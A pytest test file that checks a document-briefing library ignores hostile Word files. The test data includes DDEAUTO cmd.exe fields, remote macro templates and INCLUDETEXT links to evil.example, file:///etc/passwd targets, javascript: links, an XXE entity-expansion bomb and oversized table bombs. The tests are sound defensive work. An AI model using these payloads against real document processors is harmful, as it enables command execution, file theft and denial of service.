"""Word files that would fetch, run or unpack something elsewhere: their words are read, and nothing else."""

from __future__ import annotations

import datetime as dt
import io
import socket
import time
import zipfile
from collections.abc import Callable, Mapping

import docx
import pytest

import briefing
from briefing.errors import InputError
from tests import article

EVIL = "evil.example"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OUTSIDE = f'<Relationship Id="{{}}" Type="{_RELS}/{{}}" Target="{{}}" TargetMode="External"/>'
_PARAGRAPH = "<w:p><w:r><w:t>The council voted on Monday to close the pier.</w:t></w:r></w:p>"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def repacked(change: Callable[[str, bytes], bytes], more: Mapping[str, bytes] = {}) -> bytes:
    """The article as a Word file, each of whose members may be changed, and with more of them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(article.word())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, change(info.filename, old.read(info)))
        for name, data in more.items():
            new.writestr(name, data)
    return out.getvalue()


def with_body(markup: str) -> bytes:
    """The article with markup put before its end."""
    return repacked(
        lambda name, data: (
            data.replace(b"<w:sectPr", markup.encode() + b"<w:sectPr", 1) if name == "word/document.xml" else data
        )
    )


def only(markup: str, *, document: str = f"<w:document {_W}>") -> bytes:
    """A Word file of nothing but this body."""
    whole = f"{document}<w:body>{markup}</w:body></w:document>".encode()
    return repacked(lambda name, data: whole if name == "word/document.xml" else data)


def field(told: str, shown: str) -> str:
    """A complex field."""

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = f'<w:r><w:instrText xml:space="preserve">{told}</w:instrText></w:r>'
    return f"<w:p>{mark('begin')}{code}{mark('separate')}<w:r><w:t>{shown}</w:t></w:r>{mark('end')}</w:p>"


FIELDS = {
    "INCLUDETEXT": f'INCLUDETEXT "https://{EVIL}/more.docx"',
    "INCLUDEPICTURE": f'INCLUDEPICTURE "file:////{EVIL}/share/a.png" \\d',
    "DDEAUTO": f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k {EVIL}"',
    "HYPERLINK": f'HYPERLINK "javascript:alert({EVIL})"',
}


@pytest.fixture
def cut_off(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the network was used")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def made(data: bytes) -> dict[str, bytes]:
    """What becomes of an article in every format that holds markup or links."""
    document = briefing.read(data, name="a.docx", date=dt.date(2026, 3, 12))
    brief = briefing.brief(briefing.annotate(document, engine="rules"), as_of=dt.date(2026, 3, 14))
    return {form: briefing.render(brief, form) for form in ("docx", "html", "md", "json", "pdf")}


def holds(form: str, data: bytes, words: str) -> bool:
    if form != "docx":
        return words.encode() in data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return any(words.encode() in archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize("told", FIELDS.values(), ids=FIELDS)
def test_a_field_is_neither_followed_nor_passed_on(told: str, cut_off: None) -> None:
    shown = "The ministry said on Tuesday that nothing had been decided."
    found = made(with_body(field(told, shown)))
    assert "nothing had been decided" in found["json"].decode()  # what the reader saw is read
    for form, data in found.items():
        assert not holds(form, data, EVIL), form
        assert not holds(form, data, told.split(maxsplit=1)[0]), form


def test_what_lies_outside_a_word_file_is_neither_fetched_nor_passed_on(cut_off: None) -> None:
    outside = [
        ("evil1", "attachedTemplate", f"https://{EVIL}/macro.dotm"),
        ("evil2", "image", f"http://{EVIL}/pixel.png"),
        ("evil3", "image", "file:///etc/passwd"),
        ("evil4", "hyperlink", f"javascript:alert('{EVIL}')"),
        ("evil5", "oleObject", f"\\\\{EVIL}\\share\\a.ole"),
        ("evil6", "subDocument", f"https://{EVIL}/more.docx"),
    ]
    relations = "".join(_OUTSIDE.format(*one) for one in outside)
    relations += f'<Relationship Id="evil7" Type="{_RELS}/aFChunk" Target="chunk.html"/>'
    body = (
        f'<w:p><w:hyperlink xmlns:r="{_RELS}" r:id="evil4"><w:r><w:t>The mayor said on Friday that he knew nothing.'
        f'</w:t></w:r></w:hyperlink></w:p><w:altChunk xmlns:r="{_RELS}" r:id="evil7"/>'
        f'<w:subDoc xmlns:r="{_RELS}" r:id="evil6"/>'
    )

    def change(name: str, data: bytes) -> bytes:
        if name == "word/document.xml":
            return data.replace(b"<w:sectPr", body.encode() + b"<w:sectPr", 1)
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", relations.encode() + b"</Relationships>")
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Default Extension="html" ContentType="text/html"/></Types>')
        return data

    found = made(repacked(change, {"word/chunk.html": f"<p>Chunk of {EVIL}</p>".encode()}))
    assert "he knew nothing" in found["json"].decode()
    for form, data in found.items():
        for words in (EVIL, "javascript:", "etc/passwd"):
            assert not holds(form, data, words), (form, words)


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "ha ha ha ha ha ha ha ha ha ha ha ha ha ha ha ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 40}">' for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + f'<!ENTITY file SYSTEM "file:///etc/passwd">]><w:document {_W}>'
)


def row(told: str) -> str:
    """A table's row of one cell with such properties."""
    return f"<w:tr><w:tc><w:tcPr>{told}</w:tcPr>{_PARAGRAPH}</w:tc></w:tr>"


def table(rows: str) -> bytes:
    return only(f"<w:tbl><w:tblGrid/>{rows}</w:tbl>")


BOMBS = {
    "entities of entities": lambda: only(_PARAGRAPH.replace("pier", "&h;&file;"), document=LAUGHS),
    "a cell of a thousand million columns": lambda: table(row('<w:gridSpan w:val="1000000000"/>')),
    "a column merged over 5,000 rows": lambda: table(row('<w:vMerge w:val="restart"/>') + row("<w:vMerge/>") * 5000),
    "a span that is no number": lambda: table(row('<w:gridSpan w:val="many"/><w:vMerge w:val="restart"/>')),
    "tables in tables": lambda: only(
        "<w:tbl><w:tblGrid/><w:tr><w:tc>" * 80 + _PARAGRAPH + f"</w:tc></w:tr></w:tbl>{_PARAGRAPH}" * 80
    ),
    "tables in tables without end": lambda: only(
        "<w:tbl><w:tblGrid/><w:tr><w:tc>" * 3000 + _PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 3000
    ),
    "200,000 empty paragraphs": lambda: only(_PARAGRAPH + "<w:p/>" * 200_000),
    "markup of 150 MB": lambda: only(_PARAGRAPH + "<w:p/>" * (25 * 2**20)),
}


@pytest.mark.parametrize("make", BOMBS.values(), ids=BOMBS)
def test_a_word_file_that_unfolds_without_measure_is_read_or_refused(make: Callable[[], bytes]) -> None:
    data = make()
    start = time.process_time()
    try:
        text = briefing.read(data, name="a.docx").text
    except InputError as error:
        assert error.next_step  # noqa: PT017 - read or refused, either is right
    else:
        assert "The council voted" in text
        assert len(text) < 20_000
        assert "root:" not in text
    assert time.process_time() - start < 20


def test_cells_merged_downward_are_read_once_and_the_others_all() -> None:
    document = docx.Document()
    table = document.add_table(rows=3, cols=2)
    for n, cell in enumerate(cell for row in table.rows for cell in row.cells):
        cell.text = f"Cell {n}."
    table.cell(0, 0).merge(table.cell(1, 0)).text = "Merged."
    out = io.BytesIO()
    document.save(out)
    lines = briefing.read(out.getvalue(), name="a.docx").text.split("\n\n")
    assert lines == ["Merged.", "Cell 1.", "Cell 3.", "Cell 4.", "Cell 5."]
